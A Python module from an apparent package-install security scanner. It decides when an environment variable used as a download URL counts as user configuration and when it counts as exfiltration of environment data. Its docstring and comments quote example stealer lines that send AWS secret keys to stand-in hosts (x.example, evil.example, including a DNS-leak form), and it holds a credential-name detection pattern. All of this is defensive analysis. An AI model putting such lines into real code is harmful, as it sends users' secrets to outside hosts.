"""An environment variable that says where a request goes, told from one it sends (issue 16,
ADR 0131).

A build lets its user choose where it fetches from: pymupdf's setup.py downloads a wheel
from ``$PYMUPDF_SETUP_URL_WHEEL`` (with the wheel's own name appended when the variable ends
in ``/``). On install that was "exfiltration carrying environment variables", and the sdist
was denied. The variable is the request's address, the user's own configuration: the
request goes where the user said, and what it tells that host is what the user wrote there.
A stealer's environment value is sent *to* an address: in a query, a path after the host, a
body (``urlretrieve('https://x.example/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])``).

* :func:`led`: ``os.environ['U'] + rest``, the variable read as it is and followed by text
  that carries nothing (no label: no other variable, secret, host data or decoded data), is
  marked :data:`LED` instead of :data:`sinks.ENV`. Every other join keeps ``ENV``, so a
  second variable anywhere in the value keeps the whole value environment data.
* :func:`settle`: at a network call whose first argument is its URL (``urlopen``,
  ``urlretrieve``, ``requests.get``), that URL being a variable read as it is or an
  :data:`LED` value, with nothing else given carrying the environment, sends no
  environment data; the call is then judged as any download (held on install). Anywhere
  else (a body, a command, a written file, a name looked up) the mark is the environment
  data it came from.

Pure. What it deliberately does not do: trust a variable the module itself sets (it could
have put anything there: ``os.environ['U'] = 'https://x.example/?' + secret``), a URL built
by any call or format (``urljoin(base, token)``: only ``+`` keeps the mark), or a value of
the whole environment.
"""

from __future__ import annotations

import dataclasses
import functools
import re
from typing import TYPE_CHECKING

from airlock.imports.packages.flowtypes import Event, Val
from airlock.imports.packages.sinks import ENV, HTTP_MODULES, HTTP_VERBS

if TYPE_CHECKING:
    from airlock.imports.packages.local import LocalModules

LED = "environment-url"  # a URL that starts with an environment variable read as it is
VARIABLE = re.compile(r"\$([A-Za-z_]\w{0,63})")
# Calls whose first argument is the URL they request.
URL_FIRST = frozenset({
    "urllib.request.urlopen", "urllib.request.urlretrieve", "urllib.request.Request",
    "urllib.urlopen", "urllib.urlretrieve", "urllib2.urlopen", "urllib2.Request",
})  # fmt: skip
# ``requests.request(method, url)``, ``httpx.stream(method, url)``: the URL is second.
METHOD_FIRST = frozenset({"request", "stream"})
# A write of an environment variable by the module itself: ``os.environ['U'] = ...``,
# ``environ.setdefault('U', ...)``, ``os.putenv('U', ...)``; a write whose name is not
# written out (``os.environ.update(d)``, ``os.environ[k] = v``) could be any variable's.
NAMED_WRITE = re.compile(
    r"""environ\s*\[\s*['"](\w+)['"]\s*\]\s*=(?!=)|"""
    r"""(?:environ\s*\.\s*setdefault|putenv)\s*\(\s*['"](\w+)['"]"""
)
ANY_WRITE = re.compile(
    r"""environ\s*\[\s*(?!['"])[^\]]*\]\s*=(?!=)|environ\s*\|=|"""
    r"""environ\s*\.\s*(?:update|__setitem__)\s*\(|"""
    r"""(?:environ\s*\.\s*setdefault|putenv)\s*\(\s*(?!['"])|"""
    # A file of variables loaded into the environment (``load_dotenv()`` expands
    # ``U=https://x.example/?k=${AWS_SECRET_ACCESS_KEY}``): any name, from the archive.
    r"""dotenv|read_env|load_env"""
)


# A variable whose name says it holds a credential is never an address: its value is what
# a request to ``$AWS_SECRET_ACCESS_KEY.evil.example`` gives away (by DNS, before any byte).
CREDENTIAL_NAME = re.compile(r"TOKEN|SECRET|PASSW|PWD|KEY|CRED|AUTH|COOKIE|SESSION|PRIVATE", re.I)
# Text appended to an address that goes on naming its host: a domain (``'.evil.example'``),
# a user's ``@`` before the first ``/``, ``?`` or ``#``, or a port. A path or a file's name
# appended to the user's address does not move the request elsewhere. (A URL client asked
# for ``AKIA….evil.example`` raises before any lookup: no scheme. The deny is for the intent.)
HOST_PART = re.compile(r"^(?:\.|[^/?#]*@|:[0-9])")


def pure(value: Val) -> bool:
    """An environment variable's value as read (``os.environ['U']``, ``os.getenv('U')``),
    of a variable whose name does not say it holds a credential."""
    name = VARIABLE.fullmatch(value.shape)
    return (
        value.labels == {ENV}
        and value.const is None
        and name is not None
        and not CREDENTIAL_NAME.search(name.group(1))
    )


def led(left: Val, right: Val) -> frozenset[str] | None:
    """The labels of ``left + right`` when ``left`` is a variable read as it is (or such a
    URL already) and ``right`` carries nothing and names no host; None otherwise (the plain
    union stands)."""
    if right.labels or (isinstance(right.const, str) and HOST_PART.search(right.const)):
        return None
    if pure(left) or (LED in left.labels and ENV not in left.labels):
        return (left.labels - {ENV}) | {LED}
    return None


def url_first(ref: str) -> bool:
    if ref in URL_FIRST:
        return True
    module, _, verb = ref.rpartition(".")
    return verb in HTTP_VERBS and verb not in METHOD_FIRST and module.startswith(HTTP_MODULES)


def settle(  # noqa: PLR0917 -- a sink's parts, as the flow pass holds them
    kind: str,
    ref: str,
    args: list[Val],
    kwargs: dict[str | None, Val],
    labels: frozenset[str],
    where: tuple[str | None, LocalModules | None],
) -> frozenset[str]:
    """A sink's labels with :data:`LED` judged: none and no environment data when a URL
    request's address is the user's variable (see the module docstring); else ``LED`` is
    :data:`sinks.ENV`. ``where``: the module's text and its archive's modules (any of them
    may set the variable), as far as the walk has them; none known, the mark is
    environment data."""
    if LED not in labels and ENV not in labels:
        return labels
    plain = labels - {LED}
    as_env = plain | {ENV} if LED in labels else plain
    if kind != "network" or not url_first(ref):
        return as_env
    url = args[0] if args else kwargs.get("url")
    if url is None or not (pure(url) or (LED in url.labels and ENV not in url.labels)):
        return as_env
    rest = [*args[1:], *kwargs.values()] if args else [v for k, v in kwargs.items() if k != "url"]
    if any(v.labels & {ENV, LED} for v in rest):
        return as_env  # a variable also in the body, the file name or the headers
    name = VARIABLE.match(url.shape)
    known = texts(*where)
    if name is None or not known or any(set_here(name.group(1), text) for text in known):
        return as_env
    return plain - {ENV}


def texts(source: str | None, package: LocalModules | None) -> list[str | bytes]:
    """The module's text (when the walk has it) and its archive's modules' texts."""
    found: list[str | bytes] = [] if source is None else [source]
    if package is not None:
        found += [data for _, data in package.sources.values()]
    return found


def unmarked(events: list[Event]) -> list[Event]:
    """Events with an :data:`LED` mark no sink settled (one made outside the flow pass's
    sink, a log record sent) read as the environment data it came from."""
    return [
        dataclasses.replace(e, labels=(e.labels - {LED}) | {ENV}) if LED in e.labels else e
        for e in events
    ]


def set_here(name: str, text: str | bytes) -> bool:
    """Whether a module's text sets the variable ``name``, or one whose name it does not
    write out (it could be that one)."""
    written = module_writes(text if isinstance(text, str) else text.decode("utf-8", "replace"))
    return written is None or name in written


@functools.lru_cache(maxsize=256)
def module_writes(source: str) -> frozenset[str] | None:
    """The environment variables a module's text sets by name; None when it sets one whose
    name is not written out (it could be any)."""
    if ANY_WRITE.search(source):
        return None
    return frozenset(a or b for a, b in NAMED_WRITE.findall(source))
